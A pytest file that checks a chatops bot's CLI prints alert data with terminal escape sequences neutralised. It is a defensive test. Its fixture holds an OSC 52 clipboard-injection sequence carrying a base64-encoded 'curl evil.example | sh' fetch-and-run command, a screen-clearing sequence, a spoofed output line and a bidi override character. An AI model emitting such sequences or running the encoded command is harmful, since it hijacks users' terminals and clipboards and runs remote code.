"""Alert data printed by the CLI reaches the terminal inert: escape sequences (OSC 52
writes the clipboard, CSI 2J clears the screen) and line breaks from outside are shown
as escapes by `chatops deliveries list|show`, `audit export` and `runbooks coverage`."""

from __future__ import annotations

import asyncio

import pytest

from bot import cli
from tests.conftest import StartService
from tests.support.payloads import notification

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: set the clipboard
CLEAR = "\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home
EVIL = f"Evil{CLIPBOARD}{CLEAR}\nno runbook: Fake\u202e"


async def run(monkeypatch: pytest.MonkeyPatch, capsys, database_url: str, *argv: str) -> str:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("DATABASE_URL", database_url)
    await asyncio.to_thread(cli.main, list(argv))
    captured = capsys.readouterr()
    return str(captured.out + captured.err)


def assert_inert(out: str) -> None:
    assert out  # something was printed
    for raw in ("\x1b", "\x07", "\u202e", "\nno runbook: Fake"):
        assert raw not in out, f"{raw!r} printed raw"
    assert "\\x1b]52;c;" in out  # shown, escaped, so the operator sees what was sent


@pytest.mark.parametrize(
    "argv",
    [
        ("deliveries", "list", "--state", "done"),
        ("deliveries", "show", "1"),
        ("audit", "export", "--since", "2000-01-01"),
        ("runbooks", "coverage"),
    ],
    ids=" ".join,
)
async def test_alert_data_printed_by_the_cli_has_no_raw_escape_sequences(
    argv: tuple[str, ...],
    sqlite_url: str,
    start_service: StartService,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    bot = await start_service(sqlite_url)
    payload = notification(
        group_key='{}:{alertname="Evil"}',
        labels={"alertname": EVIL, "severity": "info"},  # no runbook covers it
        annotations={"summary": EVIL},
    )
    payload["groupLabels"] = {"alertname": EVIL}
    await bot.deliver(payload)
    await bot.settle()
    await bot.stop()

    out = await run(monkeypatch, capsys, sqlite_url, *argv)

    assert_inert(out)
